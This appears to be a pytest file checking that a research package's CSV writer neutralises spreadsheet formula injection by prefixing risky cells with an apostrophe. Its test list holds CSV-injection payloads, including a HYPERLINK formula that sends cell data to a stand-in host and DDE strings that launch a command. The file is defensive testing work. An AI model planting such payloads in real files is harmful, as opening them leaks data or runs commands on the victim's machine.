"""Class 6 of issue 10: no CSV the package writes runs a formula when opened in Excel.

OWASP's rule: a text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return gets a leading ``'``. Members tried: HYPERLINK, DDE (``+cmd|...``), ``@SUM``,
``-2+3``, a leading tab and carriage return, a hostile column name, text that is a
plain number, and real numbers (negative, tiny, huge, NaN) which keep full precision.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from cma_research.core.text import csv_cell
from cma_research.reporting.files import save_table

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "=1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_prefixed(text: str) -> None:
    assert csv_cell(text) == "'" + text.replace("\r", "\n")


@pytest.mark.parametrize(
    "value", ["Florist", "", "B04", "-0.25", "+3", "1e-5", "-7", "Smith & Sons", 3, -2.5, None]
)
def test_other_cells_are_unchanged(value: object) -> None:
    assert csv_cell(value) == value


def _read(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def test_save_table_neutralises_every_text_cell(tmp_path: Path) -> None:
    numbers = [-0.1234567890123456789, 1e-300, -1.5e300, float("nan"), 2 / 3, -0.0, 7.0]
    table = pd.DataFrame(
        {
            "business_id": pd.array(
                ["=B1", "+B2", "-B3", "@B4", "B5", "\tB6", "-1"], dtype="string"
            ),
            "business_type": HOSTILE,
            "r": numbers,
            "n": pd.array([-3, 2, None, 4, 5, 6, 7], dtype="Int64"),
        }
    )
    out = save_table(table, tmp_path / "t", outputs=["csv"])
    rows = _read(out["csv"])
    assert rows[0] == ["business_id", "business_type", "r", "n"]
    body = rows[1:]
    assert [r[0] for r in body] == ["'=B1", "'+B2", "'-B3", "'@B4", "B5", "'\tB6", "-1"]
    assert [r[1] for r in body] == ["'" + t.replace("\r", "\n") for t in HOSTILE]
    # real numbers: full precision, negative numbers stay numbers (no apostrophe)
    back = pd.read_csv(out["csv"])
    np.testing.assert_array_equal(back["r"].to_numpy(), np.array(numbers))
    assert body[0][2] == repr(numbers[0])
    assert [r[3] for r in body] == ["-3", "2", "", "4", "5", "6", "7"]
    # the input table is not changed
    assert table["business_id"].tolist()[0] == "=B1"


def test_a_hostile_column_name_is_neutralised(tmp_path: Path) -> None:
    table = pd.DataFrame({"=cmd|x": ["a"], "-2+3": [1.5], "ok": [-1]})
    rows = _read(save_table(table, tmp_path / "h", outputs=["csv"])["csv"])
    assert rows == [["'=cmd|x", "'-2+3", "ok"], ["a", "1.5", "-1"]]


def test_carriage_returns_never_split_a_csv_row(tmp_path: Path) -> None:
    table = pd.DataFrame({"t": ["a\rb", "c\r\nd", "e\nf"], "x": [1, 2, 3]})
    rows = _read(save_table(table, tmp_path / "cr", outputs=["csv"])["csv"])
    assert rows == [["t", "x"], ["a\nb", "1"], ["c\nd", "2"], ["e\nf", "3"]]


def test_object_columns_with_mixed_values(tmp_path: Path) -> None:
    table = pd.DataFrame({"mixed": ["=1", 2, None, -3.5, "@x"]})
    rows = _read(save_table(table, tmp_path / "m", outputs=["csv"])["csv"])
    assert [r[0] for r in rows[1:]] == ["'=1", "2", "", "-3.5", "'@x"]


def test_latex_and_markdown_are_not_prefixed(tmp_path: Path) -> None:
    # The apostrophe is a spreadsheet rule: LaTeX and Markdown show the text as it is.
    table = pd.DataFrame({"t": ["=1+1"]})
    out = save_table(table, tmp_path / "x", outputs=["md", "tex"])
    assert "| =1\\+1 |" in out["md"].read_text(encoding="utf-8")
    assert "=1+1" in out["tex"].read_text(encoding="utf-8")
